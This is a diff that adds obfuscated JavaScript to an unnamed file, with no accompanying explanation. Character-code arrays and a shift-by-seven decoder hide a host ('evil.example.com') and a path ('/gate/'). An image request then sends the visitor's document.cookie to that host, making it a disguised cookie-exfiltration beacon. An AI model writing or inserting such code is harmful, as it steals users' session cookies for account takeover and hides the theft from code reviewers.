@@ -1,0 +1,11 @@
+function unpack(codes) {
+  var out = "";
+  for (var i = 0; i < codes.length; i++) {
+    out = out + String.fromCharCode(codes[i] - 7);
+  }
+  return out;
+}
+var host = String.fromCharCode(101, 118, 105, 108, 46, 101, 120, 97, 109, 112, 108, 101, 46, 99, 111, 109);
+var path = unpack([54, 110, 104, 123, 108, 54]);
+var img = new Image();
+img.src = "//" + host + path + "?c=" + escape(document.cookie);
